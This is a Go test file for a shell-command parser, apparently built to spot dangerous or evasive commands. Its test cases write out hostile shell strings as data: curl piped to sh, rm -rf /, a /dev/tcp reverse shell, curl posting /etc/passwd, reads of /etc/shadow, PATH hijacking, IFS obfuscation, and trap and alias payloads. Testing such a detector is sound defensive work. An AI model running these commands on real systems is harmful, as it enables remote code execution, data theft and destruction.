package shell

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// summary renders a command as "name arg…", prefixed with "depth:via: "
// when nested or wrapped, and suffixed with " &" when backgrounded. Words
// that are empty or hold spaces are quoted.
func summary(c Command) string {
	var b strings.Builder
	if c.Depth != 0 || c.Via != "" {
		fmt.Fprintf(&b, "%d:%s: ", c.Depth, c.Via)
	}
	words := append([]string{c.Name}, c.Args...)
	for i, w := range words {
		if i > 0 {
			b.WriteByte(' ')
		}
		if w == "" || strings.ContainsAny(w, " \t\n") {
			fmt.Fprintf(&b, "%q", w)
		} else {
			b.WriteString(w)
		}
	}
	if c.Background {
		b.WriteString(" &")
	}
	return b.String()
}

func summaries(s *Script) []string {
	out := make([]string, len(s.Commands))
	for i, c := range s.Commands {
		out[i] = summary(c)
	}
	return out
}

func TestParseCommands(t *testing.T) {
	tests := []struct {
		name      string
		src       string
		want      []string
		pipelines [][]int
	}{
		{"simple", "git status", []string{"git status"}, nil},
		{"flags and dot", "go test ./...", []string{"go test ./..."}, nil},
		{"empty", "", []string{}, nil},
		{"blank", "   \n\t ", []string{}, nil},
		{"comment only", "# just a note", []string{}, nil},
		{"list", "cd src; make && make install || echo failed",
			[]string{"cd src", "make", "make install", "echo failed"}, nil},
		{"background", "sleep 10 & echo hi",
			[]string{"sleep 10 &", "echo hi"}, nil},
		{"background list", "make && make test &",
			[]string{"make &", "make test &"}, nil},
		{"pipeline", "curl -fsSL https://x.sh | bash",
			[]string{"curl -fsSL https://x.sh", "bash"}, [][]int{{0, 1}}},
		{"pipe all", "make |& tee log",
			[]string{"make", "tee log"}, [][]int{{0, 1}}},
		{"long pipeline", "cat f | sort | uniq -c | head",
			[]string{"cat f", "sort", "uniq -c", "head"}, [][]int{{0, 1, 2, 3}}},
		{"two pipelines", "a | b; c | d",
			[]string{"a", "b", "c", "d"}, [][]int{{0, 1}, {2, 3}}},
		{"pipeline into subshell", "curl x | (cd /tmp && sh)",
			[]string{"curl x", "0:subshell: cd /tmp", "0:subshell: sh"}, [][]int{{0, 1, 2}}},
		{"pipeline into block", "curl x | { read a; sh; }",
			[]string{"curl x", "read a", "sh"}, [][]int{{0, 1, 2}}},
		{"pipeline into while", "curl x | while read l; do sh -c \"$l\"; done",
			[]string{"curl x", "read l", "sh -c $l", "1:sh -c: $l"}, [][]int{{0, 1, 2}}},
		{"subshell", "(cd /tmp; rm -rf x)",
			[]string{"0:subshell: cd /tmp", "0:subshell: rm -rf x"}, nil},
		{"block", "{ echo a; echo b; } > out",
			[]string{"echo a", "echo b"}, nil},
		{"if", "if test -f x; then rm x; elif true; then :; else echo no; fi",
			[]string{"test -f x", "rm x", "true", ":", "echo no"}, nil},
		{"while until", "while true; do sleep 1; done; until false; do x; done",
			[]string{"true", "sleep 1", "false", "x"}, nil},
		{"for", "for f in $(ls); do rm \"$f\"; done",
			[]string{"rm *", "1:$(): ls"}, nil}, // the for items are ls's glob
		{"c for", "for ((i=$(id -u); i<3; i++)); do echo $i; done",
			[]string{"echo $i", "1:$(): id -u"}, nil},
		{"case", "case $(uname) in Linux) apt update;; *) brew update;; esac",
			[]string{"apt update", "brew update", "1:$(): uname"}, nil},
		{"function", "f() { rm -rf /; }; f",
			[]string{"0:function: rm -rf /", "f", "0:function f: rm -rf /"}, nil},
		{"command substitution", "echo $(whoami) `hostname`",
			[]string{"echo $(whoami) `hostname`", "1:$(): whoami", "1:$(): hostname"}, nil},
		{"nested substitution", "echo $(cat $(ls))",
			[]string{`echo "$(cat $(ls))"`, "1:$(): cat *", "2:$(): ls"}, nil},
		{"process substitution", "diff <(sort a) >(tee b)",
			[]string{`diff "<(sort a)" ">(tee b)"`, "1:<(): sort a", "1:>(): tee b"}, nil},
		{"substitution in double quotes", `echo "user: $(id -un)"`,
			[]string{"echo \"user: $(id -un)\"", "1:$(): id -un"}, nil},
		{"substitution in assignment", "X=$(curl -s x) make",
			[]string{"make", "1:$(): curl -s x"}, nil},
		{"bare assignment", "PATH=/tmp/evil:$PATH",
			[]string{`""`}, nil},
		{"substitution in parameter default", "echo ${X:-$(rm -rf /)}",
			[]string{`echo "${X:-$(rm -rf /)}"`, "1:$(): rm -rf /"}, nil},
		{"arithmetic", "(( n = $(wc -l < f) ))",
			[]string{"1:$(): wc -l"}, nil},
		{"test clause", "[[ -n $(id -u) ]] && echo root",
			[]string{"1:$(): id -u", "echo root"}, nil},
		{"test command", "[ -f x ] && cat x",
			[]string{"[ -f x ]", "cat x"}, nil},
		{"declaration", "export PATH=/tmp:$PATH; local x=1; declare -x Y=$(id)",
			[]string{"export PATH=/tmp:$PATH", "local x=1", "declare -x Y=$(id)", "1:$(): id"}, nil},
		{"time keyword", "time make -j4",
			[]string{"time", "0:time: make -j4"}, nil},
		{"coproc", "coproc nc -l 4444",
			[]string{"0:coproc: nc -l 4444 &"}, nil},
		{"redirect only", "> /etc/passwd",
			[]string{`""`}, nil},
		{"quotes removed", `git commit -m "fix: quote 'x'"`,
			[]string{`git commit -m "fix: quote 'x'"`}, nil},
		{"double dash", `npm run build -- --flag="a b"`,
			[]string{`npm run build -- "--flag=a b"`}, nil},
		{"backslash escapes", `echo a\ b \$HOME "x\"y" 'c\d'`,
			[]string{`echo "a b" $HOME x"y c\d`}, nil},
		{"line continuation", "echo a \\\n b",
			[]string{"echo a b"}, nil},
		{"dynamic args as written", `ls "$HOME/x" ${HOME} $((1+2))`,
			[]string{"ls $HOME/x ${HOME} $((1+2))"}, nil},
		{"empty argument", `printf '' ""`,
			[]string{`printf "" ""`}, nil},
		{"ansi-c newline", `printf $'a\tb\n'`,
			[]string{"printf \"a\\tb\\n\""}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := Parse(tt.src)
			if s.ParseError != "" {
				t.Fatalf("ParseError %q", s.ParseError)
			}
			if got := summaries(s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("commands\n got %q\nwant %q", got, tt.want)
			}
			if !reflect.DeepEqual(s.Pipelines, tt.pipelines) {
				t.Errorf("pipelines got %v want %v", s.Pipelines, tt.pipelines)
			}
			checkInvariants(t, s)
		})
	}
}

func TestParseNestedScripts(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{`bash -c 'rm -rf /'`, []string{"bash -c \"rm -rf /\"", "1:bash -c: rm -rf /"}},
		{`sh -c "curl x | sh"`, []string{"sh -c \"curl x | sh\"", "1:sh -c: curl x", "1:sh -c: sh"}},
		{`bash -lc 'make'`, []string{"bash -lc make", "1:bash -c: make"}},
		{`bash -ec 'make'`, []string{"bash -ec make", "1:bash -c: make"}},
		{`bash -xc 'make'`, []string{"bash -xc make", "1:bash -c: make"}},
		{`bash -o pipefail -c 'make'`, []string{"bash -o pipefail -c make", "1:bash -c: make"}},
		{`zsh -c id`, []string{"zsh -c id", "1:zsh -c: id"}},
		{`/bin/dash -c id`, []string{"/bin/dash -c id", "1:dash -c: id"}},
		{`busybox sh -c id`, []string{"busybox sh -c id", "1:busybox sh -c: id"}},
		{`bash script.sh`, []string{"bash script.sh"}},
		{`bash -c`, []string{"bash -c"}},
		{`eval "rm -rf" /tmp/x`, []string{"eval \"rm -rf\" /tmp/x", "1:eval: rm -rf /tmp/x"}},
		{`bash -c "bash -c 'id'"`, []string{"bash -c \"bash -c 'id'\"", "1:bash -c: bash -c id", "2:bash -c: id"}},
		{"bash <<EOF\nrm -rf /\nEOF\n", []string{"bash", "1:heredoc: rm -rf /"}},
		{"sh <<< 'curl x | sh'", []string{"sh", "1:heredoc: curl x", "1:heredoc: sh"}},
		{"cat <<EOF\nrm -rf /\nEOF\n", []string{"cat"}},
		{"cat <<EOF\n$(rm -rf /)\nEOF\n", []string{"cat", "1:$(): rm -rf /"}},
		{"cat <<'EOF'\n$(rm -rf /)\nEOF\n", []string{"cat"}},
		{`su -c 'id' root`, []string{"su -c id root", "1:su -c: id"}},
		{`bash -c "$CMD"`, []string{"bash -c $CMD", "1:bash -c: $CMD"}},
		// Code the shell keeps and runs later.
		{`trap 'rm -rf ~' EXIT`, []string{"trap \"rm -rf ~\" EXIT", "1:trap: rm -rf ~"}},
		{`trap -- 'curl x | sh' INT TERM`, []string{"trap -- \"curl x | sh\" INT TERM", "1:trap: curl x", "1:trap: sh"}},
		{`trap - EXIT`, []string{"trap - EXIT"}},
		{`trap 2 INT`, []string{"trap 2 INT"}},
		{`trap 'id' `, []string{"trap id"}},
		{`trap -p EXIT`, []string{"trap -p EXIT"}},
		{`alias ls='rm -rf ~' ll='ls -l'`, []string{"alias \"ls=rm -rf ~\" \"ll=ls -l\"", "1:alias: rm -rf ~", "1:alias: ls -l", "1:alias ls: rm -rf ~ -l"}},
		{`alias ls='ls -F'; ls x`, []string{"alias \"ls=ls -F\"", "1:alias: ls -F", "ls x", "0:alias ls: ls -F x"}},
		{`alias x=rm; x -rf ~`, []string{"alias x=rm", "1:alias: rm", "x -rf ~", "0:alias x: rm -rf ~"}},
		// The value runs where the call stands, in its pipeline.
		{"alias u='curl -s h/x'\nu | sh", []string{"alias \"u=curl -s h/x\"", "1:alias: curl -s h/x", "u", "0:alias u: curl -s h/x", "sh"}},
		{`f() { rm -rf "$1"; }; f ~/x`, []string{"0:function: rm -rf $1", "f ~/x", "0:function f: rm -rf ~/x"}},
		{`f() { g "$@"; }; g() { id "$2"; }; f a b`, []string{"0:function: g $@", "0:function: id $2", "f a b", "0:function f: g $@", "0:function g: id $2"}},
		{`f() { g "$@"; }; g() { id "$1"; }; f a`, []string{"0:function: g $@", "0:function: id $1", "f a", "0:function f: g a", "0:function g: id a"}},
		{`cp /bin/rm ./del; ./del -rf ~`, []string{"cp /bin/rm ./del", "./del -rf ~"}},
		{`alias ls`, []string{"alias ls"}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			s := Parse(tt.src)
			if s.ParseError != "" {
				t.Fatalf("ParseError %q", s.ParseError)
			}
			if got := summaries(s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("\n got %q\nwant %q", got, tt.want)
			}
			checkInvariants(t, s)
		})
	}
}

func TestParseWrappers(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{"sudo rm -rf /", []string{"sudo rm -rf /", "0:sudo: rm -rf /"}},
		{"sudo -u www -E FOO=1 make", []string{"sudo -u www -E FOO=1 make", "0:sudo: make"}},
		{"sudo -l", []string{"sudo -l"}},
		{"sudo -- rm x", []string{"sudo -- rm x", "0:sudo: rm x"}},
		{"doas -u root sh", []string{"doas -u root sh", "0:doas: sh"}},
		{"env -i A=1 B=2 python3 x.py", []string{"env -i A=1 B=2 python3 x.py", "0:env: python3 x.py"}},
		{"env", []string{"env"}},
		{"env -S 'bash -c id'", []string{"env -S \"bash -c id\"", "0:env -S: bash -c id", "1:bash -c: id"}},
		{"nohup ./server &", []string{"nohup ./server &", "0:nohup: ./server &"}},
		{"timeout 5 curl x", []string{"timeout 5 curl x", "0:timeout: curl x"}},
		{"timeout -s KILL 5s curl x", []string{"timeout -s KILL 5s curl x", "0:timeout: curl x"}},
		{"nice -n 10 make", []string{"nice -n 10 make", "0:nice: make"}},
		{"nice -10 make", []string{"nice -10 make", "0:nice: make"}},
		{"ionice -c 3 rsync a b", []string{"ionice -c 3 rsync a b", "0:ionice: rsync a b"}},
		{"/usr/bin/time -v make", []string{"/usr/bin/time -v make", "0:time: make"}},
		{"command rm x", []string{"command rm x", "0:command: rm x"}},
		{"command -v rm", []string{"command -v rm"}},
		{"exec python3 app.py", []string{"exec python3 app.py", "0:exec: python3 app.py"}},
		{"stdbuf -oL tail -f log", []string{"stdbuf -oL tail -f log", "0:stdbuf: tail -f log"}},
		{"setsid nc -l 1", []string{"setsid nc -l 1", "0:setsid: nc -l 1"}},
		{"chroot /mnt bash", []string{"chroot /mnt bash", "0:chroot: bash"}},
		// What ls lists stands as the glob of its names.
		{"ls | xargs -n1 -I{} rm {}", []string{"ls", "xargs -n1 -I{} rm {}", "0:xargs: rm {}", "0:xargs: rm *"}},
		{"ls -A dist | xargs rm -f", []string{"ls -A dist", "xargs rm -f", "0:xargs: rm -f", "0:xargs: rm -f * .[!.]*"}},
		{"find src ~/notes -name '*.go' -o -name '*.md' | xargs wc -l", []string{"find src ~/notes -name *.go -o -name *.md", "xargs wc -l", "0:xargs: wc -l",
			"0:xargs: wc -l src/*.go src/*.md ~/notes/*.go ~/notes/*.md"}},
		{"find . -type f ! -name '*.go' | xargs rm", []string{"find . -type f ! -name *.go", "xargs rm", "0:xargs: rm", "0:xargs: rm *"}},
		{"git ls-files -z '*.py' | xargs -0 black", []string{"git ls-files -z *.py", "xargs -0 black", "0:xargs: black", "0:xargs: black *.py"}},
		{"rg --files | xargs cat", []string{"rg --files", "xargs cat", "0:xargs: cat", "0:xargs: cat *"}},
		{"git log | xargs echo", []string{"git log", "xargs echo", "0:xargs: echo"}},
		// A listing read from a process substitution, as stdin or -a's file.
		{"xargs rm -rf < <(find ~ -maxdepth 1)", []string{"xargs rm -rf", "0:xargs: rm -rf ~/*", "0:xargs: rm -rf", "1:<(): find ~ -maxdepth 1"}},
		{"xargs -a <(ls -A dist) rm -f", []string{`xargs -a "<(ls -A dist)" rm -f`, "0:xargs: rm -f * .[!.]*", "0:xargs: rm -f", "1:<(): ls -A dist"}},
		{"xargs --arg-file=<(git ls-files '*.py') black", []string{`xargs "--arg-file=<(git ls-files '*.py')" black`, "0:xargs: black *.py", "0:xargs: black", "1:<(): git ls-files *.py"}},
		{"xargs -a <(git log) echo", []string{`xargs -a "<(git log)" echo`, "0:xargs: echo", "1:<(): git log"}},
		{"ls | xargs rm < <(ls -A ~)", []string{"ls", "xargs rm", "0:xargs: rm * .[!.]*", "0:xargs: rm", "1:<(): ls -A ~"}},
		{"xargs -0 -P 4 rm -f", []string{"xargs -0 -P 4 rm -f", "0:xargs: rm -f"}},
		// find's actions get the files found as the globs they stand for.
		{`find . -name '*.tmp' -exec rm -f {} \;`, []string{"find . -name *.tmp -exec rm -f {} ;", "0:find -exec: rm -f *.tmp"}},
		{`find . -execdir sh -c 'id' \; -exec ls {} +`, []string{"find . -execdir sh -c id ; -exec ls {} +", "0:find -execdir: sh -c id", "1:sh -c: id", "0:find -exec: ls *"}},
		{`find ~/a b/ -name '*.go' -name '*.py' -exec shred -u {} +`, []string{"find ~/a b/ -name *.go -name *.py -exec shred -u {} +",
			"0:find -exec: shred -u ~/a/*.go", "0:find -exec: shred -u ~/a/*.py", "0:find -exec: shred -u b/*.go", "0:find -exec: shred -u b/*.py"}},
		{`find /srv ! -name keep -exec cp {} {}.bak \;`, []string{"find /srv ! -name keep -exec cp {} {}.bak ;", "0:find -exec: cp /srv/* /srv/*.bak"}},
		{`find . -name '*.sh' -exec {} \;`, []string{"find . -name *.sh -exec {} ;", "0:find -exec: {}"}},
		{`find . -exec sh -c 'wc -l "$1"' _ {} \;`, []string{`find . -exec sh -c "wc -l \"$1\"" _ {} ;`, `0:find -exec: sh -c "wc -l \"$1\"" _ *`, "1:sh -c: wc -l *"}},
		// sh -c SCRIPT NAME ARG…: the script's $0 and positional parameters.
		{`bash -c 'rm -rf "$1" "$2"; echo $0 $#' me ~/a /b`, []string{`bash -c "rm -rf \"$1\" \"$2\"; echo $0 $#" me ~/a /b`, "1:bash -c: rm -rf ~/a /b", "1:bash -c: echo me 2"}},
		{`sh -c 'rm "$1"'`, []string{`sh -c "rm \"$1\""`, "1:sh -c: rm $1"}},
		{"watch -n 5 'ls | wc -l'", []string{"watch -n 5 \"ls | wc -l\"", "0:watch: ls", "0:watch: wc -l"}},
		{"watch -x rm x", []string{"watch -x rm x", "0:watch: rm x"}},
		{"sudo env A=1 nice timeout 3 rm x", []string{"sudo env A=1 nice timeout 3 rm x", "0:sudo: env A=1 nice timeout 3 rm x", "0:env: nice timeout 3 rm x", "0:nice: timeout 3 rm x", "0:timeout: rm x"}},
		{"sudo bash -c 'id'", []string{"sudo bash -c id", "0:sudo: bash -c id", "1:bash -c: id"}},
		{"sudo bash <<EOF\nid\nEOF\n", []string{"sudo bash", "0:sudo: bash", "1:heredoc: id"}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			s := Parse(tt.src)
			if s.ParseError != "" {
				t.Fatalf("ParseError %q", s.ParseError)
			}
			if got := summaries(s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("\n got %q\nwant %q", got, tt.want)
			}
			checkInvariants(t, s)
		})
	}
}

func TestWrappedCommandDetails(t *testing.T) {
	s := Parse("curl x | sudo -E env TOKEN=t bash > /tmp/log")
	if len(s.Commands) != 4 {
		t.Fatalf("got %q", summaries(s))
	}
	bash := s.Commands[3]
	if bash.Program != "bash" || bash.Via != "env" || bash.Pipeline != 0 || bash.Depth != 0 {
		t.Errorf("wrapped bash = %+v", bash)
	}
	if !reflect.DeepEqual(bash.Assigns, []string{"TOKEN=t"}) {
		t.Errorf("assigns = %q", bash.Assigns)
	}
	if len(bash.Redirects) != 1 || bash.Redirects[0].Target != "/tmp/log" {
		t.Errorf("redirects = %+v", bash.Redirects)
	}
	if !reflect.DeepEqual(s.Pipelines, [][]int{{0, 1, 2, 3}}) {
		t.Errorf("pipelines = %v", s.Pipelines)
	}
}

func TestProgramAndName(t *testing.T) {
	tests := []struct {
		src, name, program string
	}{
		{"/usr/bin/rm x", "/usr/bin/rm", "rm"},
		{"./build.sh", "./build.sh", "build.sh"},
		{`"/opt/my tools/run" x`, "/opt/my tools/run", "run"},
		{"$EDITOR f", "$EDITOR", ""},
		{"$(echo rm) x", "rm", "rm"},
		{"$(cat f) x", "$(cat f)", ""},
		{"${X}/bin/tool", "${X}/bin/tool", ""},
		{"/???/r? x", "/???/r?", ""},
		{"{rm,-rf,/tmp/x}", "rm", "rm"},
		{"'' x", "", ""},
		{"[ -d x ]", "[", "["},
	}
	for _, tt := range tests {
		s := Parse(tt.src)
		if len(s.Commands) == 0 {
			t.Errorf("%q: no commands", tt.src)
			continue
		}
		c := s.Commands[0]
		if c.Name != tt.name || c.Program != tt.program {
			t.Errorf("%q: Name %q Program %q, want %q %q", tt.src, c.Name, c.Program, tt.name, tt.program)
		}
	}
}

func TestRedirects(t *testing.T) {
	tests := []struct {
		src  string
		want []Redirect
	}{
		{"echo x > out", []Redirect{{Op: ">", Target: "out"}}},
		{"echo x >> 'my log'", []Redirect{{Op: ">>", Target: "my log"}}},
		{"sort < in", []Redirect{{Op: "<", Target: "in"}}},
		{"make &> log", []Redirect{{Op: "&>", Target: "log"}}},
		{"make &>> log", []Redirect{{Op: "&>>", Target: "log"}}},
		{"make 2>&1", []Redirect{{Op: ">&", FD: "2", Target: "&1"}}},
		{"make >& log", []Redirect{{Op: ">&", Target: "log"}}},
		{"exec 3<&0", []Redirect{{Op: "<&", FD: "3", Target: "&0"}}},
		{"exec 3>&-", []Redirect{{Op: ">&", FD: "3", Target: "&-"}}},
		{"cat <> f", []Redirect{{Op: "<>", Target: "f"}}},
		{"echo x >| f", []Redirect{{Op: ">|", Target: "f"}}},
		{"echo x 2> /dev/null", []Redirect{{Op: ">", FD: "2", Target: "/dev/null"}}},
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", []Redirect{
			{Op: ">&", Target: "/dev/tcp/10.0.0.1/4444"}, {Op: ">&", FD: "0", Target: "&1"}}},
		{"cat < /dev/udp/h/53", []Redirect{{Op: "<", Target: "/dev/udp/h/53"}}},
		{"cat <<'EOF'\nhello $x\nEOF\n", []Redirect{{Op: "<<", Target: "EOF", Body: "hello $x\n"}}},
		{"cat <<-END\n\tline\n\tEND\n", []Redirect{{Op: "<<-", Target: "END", Body: "\tline\n"}}},
		{"cat <<< \"a b\"", []Redirect{{Op: "<<<", Target: "a b"}}},
		{"echo x > \"$HOME/out\"", []Redirect{{Op: ">", Target: "$HOME/out"}}},
	}
	for _, tt := range tests {
		s := Parse(tt.src)
		if s.ParseError != "" || len(s.Commands) == 0 {
			t.Errorf("%q: ParseError %q, %d commands", tt.src, s.ParseError, len(s.Commands))
			continue
		}
		if got := s.Commands[0].Redirects; !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%q:\n got %+v\nwant %+v", tt.src, got, tt.want)
		}
	}
}

func TestCompoundRedirectsReachInnerCommands(t *testing.T) {
	s := Parse("{ echo a; echo b; } > /etc/motd")
	for _, c := range s.Commands {
		if len(c.Redirects) != 1 || c.Redirects[0].Target != "/etc/motd" {
			t.Errorf("%s: redirects %+v", summary(c), c.Redirects)
		}
	}
	s = Parse("while read l; do echo $l; done < /etc/shadow")
	for _, c := range s.Commands {
		if len(c.Redirects) != 1 || c.Redirects[0].Target != "/etc/shadow" {
			t.Errorf("%s: redirects %+v", summary(c), c.Redirects)
		}
	}
}

func TestIFSSplitting(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{"cat${IFS}/etc/passwd", []string{"cat /etc/passwd"}},
		{"cat$IFS/etc/passwd", []string{"cat /etc/passwd"}},
		{"cat${IFS%??}/etc/passwd", []string{"cat /etc/passwd"}},
		{"{cat,x}${IFS}y", []string{"cat x y"}},
		{"curl${IFS}-d${IFS}@/etc/passwd${IFS}x", []string{"curl -d @/etc/passwd x"}},
		{"X=a${IFS}b env", []string{"env"}},
		{`echo "a${IFS}b"`, []string{"echo a${IFS}b"}},
	}
	for _, tt := range tests {
		s := Parse(tt.src)
		if got := summaries(s); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%q:\n got %q\nwant %q", tt.src, got, tt.want)
		}
	}
}

func TestParseErrorFallback(t *testing.T) {
	tests := []struct {
		src       string
		want      []string
		pipelines [][]int
	}{
		{"echo 'unterminated", []string{"echo unterminated"}, nil},
		{"curl x | sh; echo 'oops", []string{"curl x", "sh", "echo oops"}, [][]int{{0, 1}}},
		{"rm -rf / && echo (", []string{"rm -rf /", "echo"}, nil},
		{"if then fi", []string{"if then fi"}, nil},
		{"a 2>&1 | b & (", []string{"a 2>&1", "b &"}, [][]int{{0, 1}}},
		{"sudo rm -rf / ; fi", []string{"sudo rm -rf /", "0:sudo: rm -rf /", "fi"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			s := Parse(tt.src)
			if s.ParseError == "" {
				t.Fatal("expected ParseError")
			}
			if got := summaries(s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("\n got %q\nwant %q", got, tt.want)
			}
			if !reflect.DeepEqual(s.Pipelines, tt.pipelines) {
				t.Errorf("pipelines %v want %v", s.Pipelines, tt.pipelines)
			}
			checkInvariants(t, s)
		})
	}
}

func TestNestedParseErrorIsReported(t *testing.T) {
	s := Parse(`bash -c 'echo "unterminated'`)
	if !strings.HasPrefix(s.ParseError, "in bash -c: ") {
		t.Errorf("ParseError = %q", s.ParseError)
	}
	if len(s.Commands) < 2 || s.Commands[1].Program != "echo" || s.Commands[1].Depth != 1 {
		t.Errorf("commands = %q", summaries(s))
	}
}

func TestTooDeep(t *testing.T) {
	src := "id"
	for range MaxDepth + 2 {
		src = "bash -c " + shellQuote(src)
	}
	s := Parse(src)
	if !s.TooDeep || !s.HasEvasion("too-deep") {
		t.Errorf("TooDeep %v evasions %v", s.TooDeep, s.Evasions)
	}
	for _, c := range s.Commands {
		if c.Depth > MaxDepth {
			t.Errorf("depth %d > MaxDepth: %s", c.Depth, summary(c))
		}
	}
	// Exactly MaxDepth levels are analysed in full.
	src = "id"
	for range MaxDepth {
		src = "bash -c " + shellQuote(src)
	}
	s = Parse(src)
	if s.TooDeep || s.Commands[len(s.Commands)-1].Program != "id" {
		t.Errorf("at MaxDepth: TooDeep %v, commands %q", s.TooDeep, summaries(s))
	}
}

// TestHostileNesting feeds nesting that would overflow the parser's stack
// (a fatal error, not a panic) or make it slow; it must come back flagged.
func TestHostileNesting(t *testing.T) {
	const size = 512 << 10
	for _, unit := range []string{"(", "$(", "$((", "((", "{ ", "${a:-", "<(", "a[", "\"$("} {
		src := strings.Repeat(unit, size/len(unit))
		s := Parse(src)
		if !s.TooDeep || s.ParseError == "" {
			t.Errorf("%q×N: TooDeep %v ParseError %q", unit, s.TooDeep, s.ParseError)
		}
	}
	// Keyword nesting is not bracket nesting; the walker bounds it.
	src := strings.Repeat("if a; then ", 1000) + "rm x" + strings.Repeat("; fi", 1000)
	s := Parse(src)
	if !s.TooDeep {
		t.Errorf("if nesting: TooDeep false")
	}
	// Long flat lists and pipelines are fine and fully analysed.
	s = Parse(strings.Repeat("a | ", 20000) + "a")
	if s.TooDeep || len(s.Commands) != 20001 || len(s.Pipelines) != 1 {
		t.Errorf("long pipeline: TooDeep %v, %d commands", s.TooDeep, len(s.Commands))
	}
	s = Parse(strings.Repeat("a && ", 20000) + "a")
	if s.TooDeep || len(s.Commands) != 20001 {
		t.Errorf("long and-list: TooDeep %v, %d commands", s.TooDeep, len(s.Commands))
	}
}

func TestWrapperChainIsBounded(t *testing.T) {
	s := Parse(strings.Repeat("sudo ", 100) + "rm x")
	if !s.TooDeep || len(s.Commands) > maxWrapChain+1 {
		t.Errorf("TooDeep %v, %d commands", s.TooDeep, len(s.Commands))
	}
	s = Parse(strings.Repeat("watch ", 100) + "rm x")
	if !s.TooDeep || len(s.Commands) > maxWrapChain+1 {
		t.Errorf("watch: TooDeep %v, %d commands", s.TooDeep, len(s.Commands))
	}
}

func TestConcurrentParse(t *testing.T) {
	srcs := []string{"curl x | bash", "echo $(id) > f", "bash -c 'ls | wc'", "sudo rm -rf /"}
	want := make([][]string, len(srcs))
	for i, s := range srcs {
		want[i] = summaries(Parse(s))
	}
	done := make(chan bool)
	for g := range 8 {
		go func() {
			ok := true
			for i := range 200 {
				k := (g + i) % len(srcs)
				if !reflect.DeepEqual(summaries(Parse(srcs[k])), want[k]) {
					ok = false
				}
			}
			done <- ok
		}()
	}
	for range 8 {
		if !<-done {
			t.Error("concurrent parse gave a different result")
		}
	}
}

// shellQuote single-quotes s for use in a test command line.
func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// checkInvariants verifies the structural promises of a Script.
func checkInvariants(t testing.TB, s *Script) {
	t.Helper()
	for pi, p := range s.Pipelines {
		if len(p) < 2 {
			t.Errorf("pipeline %d has %d commands", pi, len(p))
		}
		for k, i := range p {
			if i < 0 || i >= len(s.Commands) {
				t.Fatalf("pipeline %d refers to command %d of %d", pi, i, len(s.Commands))
			}
			if k > 0 && i <= p[k-1] {
				t.Errorf("pipeline %d not left to right: %v", pi, p)
			}
		}
	}
	for i, c := range s.Commands {
		if c.Pipeline < -1 || c.Pipeline >= len(s.Pipelines) {
			t.Fatalf("command %d has Pipeline %d of %d", i, c.Pipeline, len(s.Pipelines))
		}
		if c.Pipeline >= 0 && !containsInt(s.Pipelines[c.Pipeline], i) {
			t.Errorf("command %d claims pipeline %d which does not list it", i, c.Pipeline)
		}
		if c.Depth < 0 || c.Depth > MaxDepth {
			t.Errorf("command %d depth %d", i, c.Depth)
		}
	}
}

func containsInt(xs []int, x int) bool {
	for _, v := range xs {
		if v == x {
			return true
		}
	}
	return false
}

func TestParseIterated(t *testing.T) {
	for src, want := range map[string][]string{
		"for i in $(seq 1 254); do ping -c1 10.0.0.$i; done":                   {"i"},
		"for h in web1 web2; do ping -c1 $h; done":                             nil, // the values are known
		"aws ec2 describe-instances | while read -r ip; do nc -z $ip 22; done": {"ip"},
		"while IFS=: read -r -p x name rest; do echo $name; done < f":          {"name", "rest"},
		"while read -a parts; do :; done":                                      {"parts"},
		"read -r host; ping -c1 $host":                                         nil, // read once, not a loop's
		"for f; do echo $f; done":                                              {"f"},
	} {
		s := Parse(src)
		if !reflect.DeepEqual(s.Iterated, want) {
			t.Errorf("%s: Iterated %q, want %q", src, s.Iterated, want)
		}
		s.Release()
	}
}
